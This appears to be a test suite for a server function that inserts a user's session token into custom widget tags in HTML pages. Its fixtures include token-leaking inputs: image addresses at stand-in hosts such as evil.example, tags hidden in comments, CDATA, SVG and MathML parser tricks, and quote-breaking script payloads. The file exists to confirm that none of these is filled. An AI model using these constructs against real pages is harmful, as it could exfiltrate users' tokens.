import { expect } from 'chai';
import { fillPlaceholder } from '../../src/server/index.js';

const tag = (value: string): string => `<inbox-widget token=${value}>`;

describe('fillPlaceholder()', () => {
  const filled: [string, string][] = [
    ['the specification’s spelling', '<inbox-widget token="[[ TOKEN ]]">'],
    ['no spacing', '<inbox-widget token="[[TOKEN]]">'],
    ['any spacing', '<inbox-widget token="\n [[\n\t TOKEN\u00a0 ]] ">'],
    ['single quotes', "<inbox-widget token='[[ TOKEN ]]'>"],
    ['no quotes', '<inbox-widget token=[[TOKEN]]>'],
    ['white space around the sign', '<inbox-widget token = "[[ TOKEN ]]">'],
  ];
  for (const [what, html] of filled) {
    it(`fills ${what}`, () => { expect(fillPlaceholder(html, 'abc')).to.match(/^<inbox-widget token ?= ?"abc">$/); });
  }

  it('fills each snippet of a page, among other attributes and by other tag names', () => {
    const page = `<p>Hello</p><inbox-widget
      id="one" hidden lang=en title='a > "b"' token="[[ TOKEN ]]" refresh-endpoint="/inbox-token"></inbox-widget>
      <acme-inbox token="[[TOKEN]]"></acme-inbox>`;
    expect(fillPlaceholder(page, 'abc')).to.equal(
      page.replace('"[[ TOKEN ]]"', '"abc"').replace('"[[TOKEN]]"', '"abc"'),
    );
  });

  const left: [string, string][] = [
    ['text', '<p>Put [[ TOKEN ]] here</p>'],
    ['an address of a user’s', '<img src="https://stranger.example/p.png?[[TOKEN]]">'],
    ['an address with a space', '<img src="https://stranger.example/? token=[[TOKEN]] ">'],
    ['an address in another attribute of a custom element', '<x-picture src="https://stranger.example/? token=[[TOKEN]] "></x-picture>'],
    ['an attribute whose name only ends so', '<x-picture data-token="[[TOKEN]]"></x-picture>'],
    ['the token of an element that is no custom one', '<a token="[[ TOKEN ]]">'],
    ['a script', '<script>const token = "[[ TOKEN ]]";</script>'],
    ['a tag in the value of an attribute', `<a href='https://stranger.example/?<x-y token="[[TOKEN]]">'>`],
    ['a tag in a value without quotes', '<a href=https://stranger.example/?<x-y token=[[TOKEN]]>'],
    ['a tag in data for a script', '<script type="application/json">{"bio":"<x-y token=[[TOKEN]] >"}</script>'],
    ['a tag in a script that holds an end tag in a comment', '<script><!-- <script></script> <x-y token="[[TOKEN]]"> --></script>'],
    ['an address in a script that a comment seems to hide', `<script>var a={"name":"<!--><script x"}</script><img src='//evil.example/?</script><x-y token=[[TOKEN]]>'>`],
    ['an address with a space that HTML does not count as one', '<x-card href=//evil.example/?\u00a0token=[[TOKEN]]>'],
    ['a tag in a text field', '<TextArea><x-y token="[[TOKEN]]"></textareas></textarea>'],
    ['a tag in a title', '<title><x-y token="[[TOKEN]]"></title>'],
    ['a tag in a comment', '<!-- > <x-y token="[[TOKEN]]"> -->'],
    ['a tag in a comment that is never closed', '<!-- <x-y token="[[TOKEN]]">'],
    ['a tag in what a browser takes for a comment', '<!x <x-y token="[[TOKEN]]>'],
    ['a tag in an end tag', `<p></p title='<x-y token="[[TOKEN]]">'>`],
    ['a tag in CDATA within an image', '<svg><style><![CDATA[ > <x-y token="[[TOKEN]]"> ]]></style></svg>'],
    ['a tag in CDATA that is never closed', '<svg><![CDATA[ ]] > <x-y token="[[TOKEN]]">'],
    ['a tag in CDATA right within what holds HTML', '<svg><foreignObject><![CDATA[ > <x-y token="[[TOKEN]]"> ]]>'],
    ['a tag in what may be CDATA', '<svg><desc><p><i></i><![CDATA[ > <x-y token="[[TOKEN]]"> ]]>'],
    ['a tag in a style after what only looks like CDATA', '<svg><desc><p><![CDATA[ ><style> ]]><x-y token="[[TOKEN]]"></style>'],
    ['a tag in a style after an end tag that HTML ignores', '<svg><foreignObject><div></foreignObject><style><p><x-y token="[[TOKEN]]"></style>'],
    ['a tag in a title of HTML within an image', '<svg><foreignObject><title/><x-y token="[[TOKEN]]"></title></foreignObject></svg>'],
    ['a tag in a style after an image that is never closed', '<div><svg></div><style><x-y token="[[TOKEN]]"></style>'],
    ['a tag in a style after an element that closes an image', '<svg><p><style><x-y token="[[TOKEN]]"></style>'],
    ['a tag in a style within a formula', '<math><mtext><mglyph><style><!--</style><x-y token="[[TOKEN]]">--></style></math>'],
    ['a tag within an image, where no element is a custom one', '<svg><g><x-y token="[[TOKEN]]"></g></svg>'],
    ['a tag that is cut off', '<x-y token="[[TOKEN]]"'],
    ['a tag whose quote is never closed', '<p title="> <x-y token=[[TOKEN]]>'],
    ['a second attribute of the name', '<x-y token="" token="[[TOKEN]]">'],
    ['a value that is more than the placeholder', '<inbox-widget token="x[[ TOKEN ]]">'],
    ['a text like it', '<inbox-widget token="[ TOKEN ] [[ TOKENS ]]">'],
  ];
  for (const [what, html] of left) {
    it(`leaves ${what} alone`, () => { expect(fillPlaceholder(html, 'abc')).to.equal(html); });
  }

  for (const before of [
    '<!-->',
    '<!--->',
    '<!-- a --!>',
    '<!doctype html>',
    '<?xml ?>',
    '<p title=it\'s>',
    '<p "odd\' =name=1>',
    '<br/>',
    '1 < 2 <3 </ >',
    'a < b "',
    '<script>if (a < b) "<!--";</script>',
    '<script></SCRIPT >',
    '<style></style>',
    '<svg><path d="M0"/></svg>',
    '<svg><title/></svg>',
    '<svg><style/><path d="M0"/></svg>',
    '<svg><script href="x.js"/></svg>',
    '<svg><title>Icon</title><style><![CDATA[ a > b { color: red } ]]></style></svg>',
    '<svg><style>a > b { }</style></svg><style>"<"</style>',
    '<svg/><title><svg></title>',
    '<svg><foreignObject><div><img><svg></svg></div></foreignObject></svg><script>1 < 2</script>',
    '<svg><foreignObject><div>',
    '<svg><g><path></svg><script>1 < 2</script>',
    '<svg><path><p>',
    '<svg><font size="1">',
    '<div><svg><path></div>',
    '<math><mi>x</mi><mo>&lt;</mo><annotation encoding="application/x-tex">x</annotation></math><script>1 < 2</script>',
    '<math><mtext>',
    '<![CDATA[ > ',
    '<template>',
    '<svg></b><style>p { margin: 0 }</style><p>',
  ]) {
    it(`fills a tag after ${before}`, () => {
      expect(fillPlaceholder(before + tag('"[[ TOKEN ]]"'), 'abc')).to.equal(before + tag('"abc"'));
    });
  }

  it('takes time in proportion to the page, whatever is in it', () => {
    for (const part of ['<', '<!--', '<a ', '<a x="', '<script>', '<x-y token=', '</', '"', '<svg>', '<svg><desc>', '<svg><![CDATA[', '</svg>']) {
      const page = part.repeat(200_000);
      expect(fillPlaceholder(page, 'abc')).to.equal(page);
    }
  });

  it('escapes what would end the attribute or begin a tag', () => {
    expect(fillPlaceholder(tag('"[[ TOKEN ]]"'), `"'><script>&amp;`)).to.equal(
      tag('"&quot;&#39;&gt;&lt;script&gt;&amp;amp;"'),
    );
  });

  for (const token of ['$&', '$1', '$$', "$'", '$`', '$<name>']) {
    it(`takes ${token} for text`, () => {
      const escaped = token.replace('&', '&amp;').replace("'", '&#39;').replace('<', '&lt;').replace('>', '&gt;');
      expect(fillPlaceholder(tag('"[[ TOKEN ]]"'), token)).to.equal(tag(`"${escaped}"`));
    });
  }

  it('does not fill a placeholder that came with the token', () => {
    expect(fillPlaceholder(tag('"[[ TOKEN ]]"'), '[[ TOKEN ]]')).to.equal(tag('"[[ TOKEN ]]"'));
  });

  for (const none of ['', null, undefined]) {
    it(`leaves an empty attribute for a visitor who is not signed in (${String(none)})`, () => {
      expect(fillPlaceholder(tag('"[[ TOKEN ]]"'), none)).to.equal(tag('""'));
    });
  }
});
